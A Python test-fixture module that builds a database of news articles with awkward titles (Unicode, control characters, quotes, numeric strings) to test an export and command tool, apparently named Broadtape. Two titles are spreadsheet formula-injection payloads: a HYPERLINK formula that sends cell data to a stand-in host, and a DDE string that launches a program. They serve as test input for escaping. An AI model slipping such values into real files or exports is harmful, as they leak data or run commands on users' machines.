"""A small record of articles that are awkward to write down, and what it holds."""

from __future__ import annotations

import sqlite3
from contextlib import closing
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

from data.sample.command import command
from pipelines.database import open_database
from pipelines.database.selection import EXPORT_COLUMNS
from pipelines.items import Article, Mention, Moment

if TYPE_CHECKING:
    import subprocess
    from pathlib import Path

LISTS = ("authors", "symbols", "tags", "flags")
START = datetime(2026, 11, 20, 22, 0, tzinfo=UTC)

TITLES = (
    '=HYPERLINK("http://bad.example/?"&A1,"Results")',
    "000088",
    "Two\nlines",
    "盐田港：上半年净利润增长12%，拟10派2元",
    "Rocket 🚀 and family 👩‍👩‍👧 at all-time high",
    '"Quoted", with commas; and a semicolon',
    "+1 (555) 010-0199",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "  =1+1",
    "3-4",
    "1E5",
    "TRUE",
    "Carriage\rreturn",
    "Control \x0b and \x01 and \u2028 and \x85 characters",
    "# not a heading: nor a 'mapping' & <b>no</b> markup",
    None,
)


def make(path: Path) -> Path:
    """Store an article a title, two hours apart, with lists, mentions and long texts."""
    with open_database(path) as database, database.transaction():
        for number, title in enumerate(TITLES):
            at = START + timedelta(hours=2 * number)
            article_id = database.articles.create(
                f"news.example/{number}", "新闻 Wire" if number % 2 else "Wire", at, "live"
            )
            database.articles.add_revision(
                article_id,
                awkward(number, title),
                "add",
                seen_at=at + timedelta(seconds=5),
                computed_at=at + timedelta(seconds=6),
                text_hash=None,
                word_count=number,
            )
            database.stories.begin(article_id)
    return path


def awkward(number: int, title: str | None) -> Article:
    """An article with an awkward title, and values here and there."""
    symbols = (("XSHE", "000088"), ("XNYS", "BRK.B"))[: number % 3]
    text = f"{title or 'Untitled'}\n第二段。Second paragraph, “quoted”.\n\n=3+4"
    moment = Moment(at=START, raw="", precision="day", zone="assumed", origin="feed")
    return Article(
        url=f"https://news.example/{number}?q=港口&n={number}",
        title=title,
        publisher="Wire" if number % 4 else None,
        authors=("Ann O'Hara", "王珊珊")[: number % 3],
        language="zh" if number == 3 else "en",
        published=moment if number % 2 else None,
        text=text * (900 if number == 5 else 1),
        html=f"<p>Body {number} &amp; more</p>\n\n<p>第二段</p>" if number % 2 else None,
        summary="000123" if number == 4 else None,
        image="https://img.example/港.png" if number == 3 else None,
        tags=("ports", "港口") if number % 3 else (),
        mentions=tuple(
            Mention(
                symbol=f"{mic}:{code}",
                mic=mic,
                code=code,
                name=None,
                rule="test",
                certainty="certain",
                place="body",
                matched=code,
            )
            for mic, code in symbols
        ),
    )


def held(path: Path) -> list[dict[str, Any]]:
    """What the record holds, asked for without Broadtape's own reading: lists as lists."""
    with closing(sqlite3.connect(path)) as connection:
        connection.row_factory = sqlite3.Row
        rows = [dict(row) for row in connection.execute("SELECT * FROM articles ORDER BY id")]
        for row in rows:
            row["story_size"] = 1
            row["symbols"] = "; ".join(
                symbol
                for (symbol,) in connection.execute(
                    "SELECT symbol FROM mentions WHERE article_id = ? ORDER BY rowid", (row["id"],)
                )
            )
            for name in LISTS:
                row[name] = row[name].split("; ") if row[name] else []
    return [{name: row[name] for name in EXPORT_COLUMNS} for row in rows]


def broadtape(db: Path, *arguments: object) -> subprocess.CompletedProcess[bytes]:
    """Run the command on the record; fails the test unless it ends well."""
    done = command("--db", db, *arguments)
    done.check_returncode()
    return done


def refused(db: Path, *arguments: object) -> str:
    """Run a command that cannot be done; the line that says why."""
    done = command("--db", db, *arguments)
    assert done.returncode
    assert b"Traceback" not in done.stderr
    return done.stderr.decode().splitlines()[-1]
